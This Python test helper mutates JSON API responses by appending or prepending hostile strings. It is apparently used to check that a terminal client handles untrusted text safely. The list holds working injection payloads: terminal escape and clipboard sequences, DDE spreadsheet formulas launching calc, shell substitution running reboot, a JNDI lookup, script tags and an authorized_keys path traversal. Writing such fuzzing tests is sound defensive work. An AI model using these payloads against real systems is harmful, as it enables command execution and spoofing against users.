"""Answers turned hostile: every text gets something that a careless reader would act on.

What the client has to send back or to tell apart stays usable: ids of invocations, pagination
tokens, credentials and the codes of errors keep their value.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Final

from tui.emulator.request import Response

PAYLOADS: Final = (
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]0;pwned\x1b\\",
    "\x1b[2J\x1b[H\x1b[31m",
    "\x1b]8;;https://example.com\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m\x9d0;pwned\x9c",
    "\x00\x07\x08\x0b\x0c\x0e\x7f\r",
    "[/nope]",
    "[@click=app.quit]quit[/]",
    "[link=https://example.com]x",
    "[$error][red][b",
    '=HYPERLINK("https://example.com","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "\u202egnp.exe\u2066\u2069",
    "a\u200b\u200d\u2060\ufeffb",
    "e" + "\u0301" * 20,
    "\u2028\u2029\u0085",
    "../../.ssh/authorized_keys",
    "-rf\n$(reboot)`reboot`;|&",
    "\t\ttab\r\nline",
    "\U000e0041\U000e007f\ufff9\ufffe",
    "<script>alert(1)</script>&amp;",
    "%s%n{0}{{}}${jndi:ldap://example.com}",
    "\ud800",
    "long " * 400,
)
"""Texts that have broken terminals, tables, spreadsheets and shells."""

KEPT: Final = frozenset(
    {
        "AccessKeyId",
        "AccessKeySecret",
        "Code",
        "Expiration",
        "InvokeId",
        "NextToken",
        "RegionEndpoint",
        "RegionId",
        "ResourceId",
        "SecurityToken",
    }
)
"""Fields that keep their value, because the client tells by them what is what and goes on."""

SOMETIMES: Final = frozenset(
    {
        "CreationTime",
        "ErrorCode",
        "FinishTime",
        "InvocationStatus",
        "StartTime",
        "UpdateTime",
    }
)
"""Fields that keep their value two times out of three, or everything would look the same."""


def spoilt(response: Response) -> Response:
    """Return a response whose texts are hostile; the same answer is spoilt in the same way."""
    try:
        body = json.loads(response.body)
    except ValueError:
        return response
    count = itertools.count()
    # ASCII with escapes: one of the payloads has no encoding in UTF-8.
    content = json.dumps(_spoil(body, "", count), separators=(",", ":")).encode()
    headers = {**response.headers, "content-length": str(len(content))}
    return replace(response, headers=headers, body=content)


def _spoil(value: object, key: str, count: Iterator[int]) -> object:
    if isinstance(value, dict):
        return {name: _spoil(inner, name, count) for name, inner in value.items()}
    if isinstance(value, list):
        return [_spoil(inner, key, count) for inner in value]
    if not isinstance(value, str) or key in KEPT:
        return value
    number = next(count)
    if key in SOMETIMES and number % 3:
        return value
    bad = PAYLOADS[number % len(PAYLOADS)]
    # A formula has to begin the text; with the others the text stays readable.
    return bad + value if bad[0] in "=+-@\t" else value + bad
